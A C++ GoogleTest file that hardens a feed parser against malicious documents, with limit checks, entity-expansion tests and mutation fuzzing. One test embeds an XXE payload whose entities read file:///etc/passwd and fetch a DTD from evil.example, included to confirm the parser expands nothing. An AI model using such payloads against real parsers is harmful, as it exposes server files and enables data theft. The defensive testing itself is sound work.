// Documents that mean harm: each costs a bounded time and gives an answer (reliability rows by
// their id).
#include <gtest/gtest.h>

#include <chrono>
#include <random>

#include "feeds/feeds.h"
#include "tests/feeds/sample.h"
#include "text/encoding.h"

using feeds::ParseError;

namespace {

std::string repeat(const std::string& part, std::size_t times) {
  std::string all;
  all.reserve(part.size() * times);
  while (times-- > 0) all += part;
  return all;
}

std::string rss(const std::string& inside) {
  return "<rss version='2.0'><channel><title>T</title>" + inside + "</channel></rss>";
}

ParseError::Kind refusal(const std::string& bytes) {
  const auto result = feeds::parse({bytes, "", ""});
  EXPECT_FALSE(result);
  return result ? ParseError::Kind::malformed : result.error().kind;
}

bool is_clean(const model::Document& document) {
  for (const auto& entry : document.entries)
    for (const auto& text :
         {entry.title, entry.summary_html, entry.content_html, entry.guid, entry.link})
      if (text::valid_utf8(text) != text) return false;
  return true;
}

}  // namespace

TEST(Parse, B6_B7_B8_RefusesDocumentsBeyondItsLimits) {
  EXPECT_EQ(refusal(rss(repeat("<a>", 200'000))), ParseError::Kind::over_limit);
  EXPECT_EQ(refusal(rss(repeat("<a/>", 300'000))), ParseError::Kind::over_limit);
  EXPECT_EQ(refusal(rss("<a" + repeat(" b='1'", 5'000) + "/>")), ParseError::Kind::over_limit);
  EXPECT_EQ(refusal(rss("<a b='" + repeat("x", 2'000'000) + "'/>")), ParseError::Kind::over_limit);
  EXPECT_EQ(refusal(rss("<" + repeat("x", 2'000'000) + "/>")), ParseError::Kind::over_limit);
  EXPECT_EQ(refusal("{\"items\": " + repeat("[", 100'000)), ParseError::Kind::over_limit);
}

TEST(Parse, B27_CountsTheEntriesItLeavesOut) {
  const auto many = feeds::parse({rss(repeat("<item><title>x</title></item>", 10'250)), "", ""});
  const auto huge =
      feeds::parse({rss(repeat("<item>" + repeat("<a/>", 99) + "</item>", 3'000)), "", ""});

  ASSERT_TRUE(many && huge);
  EXPECT_EQ(many->document.entries.size(), 10'000u);
  EXPECT_EQ(many->document.left_out, 250u);
  EXPECT_FALSE(many->partial) << "all of it was there";
  EXPECT_EQ(huge->document.entries.size() + huge->document.left_out, 3'000u);
}

TEST(Parse, B4_B5_ExpandsNoEntity) {
  const auto result = feeds::parse(
      {"<!DOCTYPE rss [<!ENTITY a 'lol'><!ENTITY b '&a;&a;'><!ENTITY c SYSTEM 'file:///etc/passwd'>"
       "<!ENTITY % d SYSTEM 'http://evil.example/x.dtd'> %d;]>" +
           rss("<item><title>&b; &c;</title></item>"),
       "", ""});

  ASSERT_TRUE(result);
  EXPECT_EQ(result->document.entries.at(0).title, "&b; &c;");
}

TEST(Parse, B28_KeepsAHugeTitle) {
  const auto result =
      feeds::parse({rss("<item><title>" + repeat("x", 5'000'000) + "</title></item>"), "", ""});

  ASSERT_TRUE(result);
  EXPECT_EQ(result->document.entries.at(0).title.size(), 5'000'000u);
}

TEST(Parse, SurvivesSeededMutationsOfEverySample) {
  constexpr int kRounds = 300;
  const std::string pieces[] = {"<",       ">",  "&", "]]>",   "<![CDATA[", "<item>",
                                "</item>", "\"", "'", "<!--",  "xmlns=",    "&#x",
                                "\xFF",    "{",  "[", "1e999", "<?xml",     std::string(1, '\0')};
  std::mt19937 random(20260105);
  const auto below = [&random](std::size_t n) { return static_cast<std::size_t>(random()) % n; };
  const auto begin = std::chrono::steady_clock::now();
  std::size_t parsed = 0;

  for (const char* name :
       {"rss20.xml", "rss10.xml", "atom10.xml", "atom03.xml", "feed.json", "broken.xml"}) {
    const std::string sample = test::document(name);
    ASSERT_FALSE(sample.empty()) << name;
    for (int round = 0; round < kRounds; ++round) {
      std::string bytes = sample;
      for (auto changes = 1 + below(6); changes > 0 && !bytes.empty(); --changes) {
        const auto at = below(bytes.size());
        switch (below(5)) {
          case 0:
            bytes[at] = static_cast<char>(random());
            break;
          case 1:
            bytes.erase(at, below(40));
            break;
          case 2:
            bytes.insert(at, pieces[below(std::size(pieces))]);
            break;
          case 3:
            bytes.insert(at, bytes.substr(below(bytes.size()), below(200)));
            break;
          default:
            bytes.resize(at);
            break;
        }
      }
      const auto result = feeds::parse({bytes, "", "https://server.example/"});
      if (!result) {
        EXPECT_FALSE(result.error().message.empty());
        continue;
      }
      ++parsed;
      EXPECT_TRUE(is_clean(result->document)) << name << " round " << round;
      feeds::read_articles(result->document, {}, test::utc(2026, 1, 5));
    }
  }

  EXPECT_GT(parsed, 200u) << "the mutations were too harsh to test anything";
  EXPECT_LT(std::chrono::steady_clock::now() - begin, std::chrono::seconds(60));
}
